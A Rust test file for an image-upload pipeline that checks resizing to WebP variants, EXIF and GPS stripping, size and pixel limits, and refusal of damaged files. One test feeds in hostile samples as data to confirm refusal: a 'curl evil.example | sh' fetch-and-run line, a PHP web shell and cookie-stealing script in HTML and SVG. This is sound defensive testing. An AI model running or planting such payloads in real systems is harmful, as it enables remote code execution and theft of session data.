//! The pipeline on each accepted format and on each kind of bad upload.

mod fixtures;

use byline_media::{Kind, Limits, MediaError, ingest};
use fixtures::*;

fn ok(bytes: &[u8]) -> byline_media::Ingested {
    ingest(bytes, &Limits::default()).unwrap()
}

fn refused(bytes: &[u8]) -> MediaError {
    let e = ingest(bytes, &Limits::default()).unwrap_err();
    assert!(e.is_user_error(), "{e:?} should be the uploader's to fix");
    e
}

/// Every variant is a real WebP of the dimensions it claims.
fn assert_variants(got: &byline_media::Ingested, widths: &[(u32, u32)]) {
    let dims: Vec<(u32, u32)> = got.variants.iter().map(|v| (v.width, v.height)).collect();
    assert_eq!(dims, widths);
    for v in &got.variants {
        assert_eq!(v.name, format!("{}.webp", v.width));
        assert_eq!(v.mime, "image/webp");
        assert_eq!(&v.data[..4], b"RIFF");
        assert_eq!(&v.data[8..12], b"WEBP");
        let back = image::load_from_memory_with_format(&v.data, image::ImageFormat::WebP).unwrap();
        assert_eq!((back.width(), back.height()), (v.width, v.height));
    }
}

#[test]
fn a_jpeg_photo_gets_four_webp_variants_and_a_jpeg_original() {
    let got = ok(&jpeg(2000, 1000));
    assert_eq!(got.kind, Kind::Jpeg);
    assert_eq!((got.width, got.height), (2000, 1000));
    assert_variants(&got, &[(320, 160), (640, 320), (1024, 512), (1600, 800)]);
    assert_eq!(got.original.name, "original.jpg");
    assert_eq!((got.original.width, got.original.height), (2000, 1000));
    assert_eq!(
        image::guess_format(&got.original.data).unwrap(),
        image::ImageFormat::Jpeg
    );
    assert_eq!(got.key.len(), 32);
    assert_eq!(got.key, ok(&jpeg(2000, 1000)).key, "same bytes, same key");
    assert_ne!(got.key, ok(&jpeg(2000, 999)).key);
}

#[test]
fn a_png_is_never_upscaled_and_keeps_its_transparency() {
    let got = ok(&png(500, 250));
    assert_eq!(got.kind, Kind::Png);
    assert_variants(&got, &[(320, 160), (500, 250)]);
    assert_eq!(got.original.name, "original.png");
    let variant = image::load_from_memory(&got.variants[1].data).unwrap();
    assert!(variant.color().has_alpha());
    assert!(variant.to_rgba8().get_pixel(400, 10)[3] < 255);
}

#[test]
fn a_webp_is_accepted() {
    let got = ok(&webp(700, 350));
    assert_eq!(got.kind, Kind::Webp);
    assert_variants(&got, &[(320, 160), (640, 320), (700, 350)]);
    assert_eq!(got.original.name, "original.webp");
}

#[test]
fn a_gif_keeps_its_first_frame_as_png() {
    let got = ok(&gif(200, 100));
    assert_eq!(got.kind, Kind::Gif);
    assert_variants(&got, &[(200, 100)]);
    assert_eq!(got.original.name, "original.png");
    assert_eq!(got.original.mime, "image/png");
}

#[test]
fn exif_and_gps_are_stripped_and_the_orientation_applied() {
    let upload = jpeg_with_exif_gps(64, 32);
    // The planted metadata is really there, and the decoder reads the file.
    assert!(contains(&upload, b"Exif\0\0"));
    assert!(contains(&upload, GPS_MARKER));
    let got = ok(&upload);
    // Orientation 6 turned the 64×32 picture upright: 32×64.
    assert_eq!((got.width, got.height), (32, 64));
    for file in got.files() {
        assert!(!contains(&file.data, b"Exif"), "{} kept EXIF", file.name);
        assert!(!contains(&file.data, GPS_MARKER), "{} kept GPS", file.name);
        assert!(
            !contains(&file.data, b"II*\0"),
            "{} kept a TIFF block",
            file.name
        );
    }
}

#[test]
fn an_empty_file_is_refused() {
    assert!(matches!(refused(b""), MediaError::Empty));
}

#[test]
fn a_file_over_the_size_limit_is_refused_before_decoding() {
    let limits = Limits {
        max_bytes: 1024 * 1024,
        ..Limits::default()
    };
    let mut big = jpeg(64, 64);
    big.resize(1024 * 1024 + 1, 0);
    let e = ingest(&big, &limits).unwrap_err();
    assert!(matches!(e, MediaError::TooBig { .. }), "{e:?}");
    assert_eq!(
        e.to_string(),
        "the file is 1.0 MB and the largest accepted is 1.0 MB"
    );
    let e = ingest(&vec![0; 30 * 1024 * 1024], &Limits::default()).unwrap_err();
    assert_eq!(
        e.to_string(),
        "the file is 30 MB and the largest accepted is 20 MB"
    );
}

#[test]
fn a_renamed_script_html_page_or_svg_is_not_an_image() {
    for body in [
        b"#!/bin/sh\ncurl evil.example | sh\n".as_slice(),
        b"<?php system($_GET['c']); ?>",
        b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        b"GIF",
    ] {
        let e = refused(body);
        assert!(matches!(e, MediaError::NotAnImage), "{e:?}");
        assert_eq!(
            e.to_string(),
            "this file is not an image: upload a JPEG, PNG, WebP or GIF"
        );
    }
}

#[test]
fn other_image_formats_are_named_and_refused() {
    let e = refused(b"BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0");
    assert!(matches!(e, MediaError::UnsupportedFormat { .. }), "{e:?}");
    assert_eq!(
        e.to_string(),
        "BMP images are not accepted: upload a JPEG, PNG, WebP or GIF"
    );
    let e = refused(b"II*\0\x08\0\0\0");
    assert!(e.to_string().starts_with("TIF"), "{e}");
}

#[test]
fn a_decompression_bomb_is_refused_from_its_header() {
    let bomb = png_declaring(50_000, 50_000);
    assert!(bomb.len() < 200);
    let e = refused(&bomb);
    assert!(
        matches!(
            e,
            MediaError::TooManyPixels {
                width: 50_000,
                height: 50_000,
                ..
            }
        ),
        "{e:?}"
    );
    assert!(e.to_string().contains("50000×50000"), "{e}");
    // Within the side limit but over the pixel budget.
    let e = refused(&png_declaring(11_000, 11_000));
    assert!(matches!(e, MediaError::TooManyPixels { .. }), "{e:?}");
}

#[test]
fn truncated_files_are_refused_as_damaged() {
    for (name, whole) in [
        ("png", png(300, 200)),
        ("jpeg", jpeg(300, 200)),
        ("gif", gif(300, 200)),
        ("webp", webp(300, 200)),
    ] {
        let cut = &whole[..whole.len() / 2];
        let Err(e) = ingest(cut, &Limits::default()) else {
            panic!("a truncated {name} was accepted");
        };
        assert!(matches!(e, MediaError::Damaged { .. }), "{name}: {e:?}");
        assert!(
            e.to_string()
                .starts_with("the image is damaged or incomplete")
        );
    }
}
